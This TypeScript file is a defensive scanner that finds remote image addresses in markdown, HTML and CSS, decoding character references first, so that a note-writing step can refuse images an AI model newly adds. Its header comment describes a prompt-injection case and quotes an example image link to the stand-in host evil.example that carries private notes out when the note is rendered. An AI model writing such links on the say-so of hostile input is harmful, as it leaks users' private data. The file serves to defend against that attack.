/**
 * Images that a markdown viewer fetches by itself. A model that read something hostile (a calendar invite, a web
 * page) could be told to write `![](https://evil.example/?q=<private notes>)`: the moment Obsidian renders the note,
 * the notes leave the machine without anyone clicking. The write phase therefore refuses any such image that the
 * note did not already contain. This is a best-effort scanner: inline and reference images, HTML tags with a
 * source attribute, and CSS url(); character references in the address are decoded first.
 */

const NAMED: Record<string, string> = { colon: ':', sol: '/', period: '.', amp: '&', quot: '"', apos: "'", lt: '<', gt: '>' };

function decodeEntities(text: string): string {
  return text.replace(/&(#x[0-9a-f]+|#\d+|[a-z]+);/gi, (whole, ref: string) => {
    if (ref[0] === '#') {
      const code = ref[1] === 'x' || ref[1] === 'X' ? parseInt(ref.slice(2), 16) : parseInt(ref.slice(1), 10);
      return Number.isFinite(code) && code > 0 && code <= 0x10ffff ? String.fromCodePoint(code) : whole;
    }
    return NAMED[ref.toLowerCase()] ?? whole;
  });
}

/** Leaves the machine when fetched: any scheme but data:, or a protocol-relative `//host`. */
function isRemote(destination: string): boolean {
  const url = decodeEntities(destination).replace(/[\s\u0000-\u001f]/g, '');
  if (url.startsWith('//')) return true;
  const scheme = /^([a-z][a-z0-9+.-]*):/i.exec(url);
  return scheme !== null && scheme[1]!.toLowerCase() !== 'data';
}

const ALT = String.raw`!\[((?:[^\[\]\\]|\\.|\[[^\]]*\])*)\]`;
const INLINE_IMAGE = new RegExp(`${ALT}\\(\\s*(<[^>]*>|[^)\\s]+)`, 'g');
const REF_IMAGE = new RegExp(`${ALT}(?:\\[([^\\]]*)\\])?`, 'g');
const REF_DEFINITION = /^ {0,3}\[([^\]]+)\]:\s*(<[^>]*>|\S+)/gm;
const HTML_SOURCE =
  /<(?:img|image|video|audio|source|iframe|embed|object|input|track|picture|svg|use)\b[^>]*?\b(?:src|srcset|data|poster|href|xlink:href)\s*=\s*("[^"]*"|'[^']*'|[^\s>]+)/gi;
const CSS_URL = /url\(\s*("[^"]*"|'[^']*'|[^)\s]+)/gi;

function unwrap(destination: string): string {
  return destination
    .replace(/^<(.*)>$/s, '$1')
    .replace(/^(["'])(.*)\1$/s, '$2')
    .trim();
}

function label(text: string): string {
  return text.trim().replace(/\s+/g, ' ').toLowerCase();
}

/** Every address of an image in `text` that would be fetched from the network when the note is shown. */
export function remoteImageUrls(text: string): Set<string> {
  const found = new Set<string>();
  const add = (raw: string) => {
    // srcset lists several "url size" pairs.
    for (const part of unwrap(raw).split(/,\s+/)) {
      const url = part.trim().split(/\s+/)[0] ?? '';
      if (isRemote(url)) found.add(decodeEntities(url));
    }
  };
  for (const m of text.matchAll(INLINE_IMAGE)) add(m[2]!);
  for (const m of text.matchAll(HTML_SOURCE)) add(m[1]!);
  for (const m of text.matchAll(CSS_URL)) add(m[1]!);
  const definitions = new Map<string, string>();
  for (const m of text.matchAll(REF_DEFINITION)) {
    if (!definitions.has(label(m[1]!))) definitions.set(label(m[1]!), m[2]!);
  }
  for (const m of text.matchAll(REF_IMAGE)) {
    const ref = m[2] === undefined || m[2] === '' ? m[1]! : m[2];
    const destination = definitions.get(label(ref));
    if (destination !== undefined) add(destination);
  }
  return found;
}

/** Remote images in `after` that `before` did not have. */
export function newRemoteImages(before: string | null, after: string): string[] {
  const old = before === null ? new Set<string>() : remoteImageUrls(before);
  return [...remoteImageUrls(after)].filter((url) => !old.has(url));
}
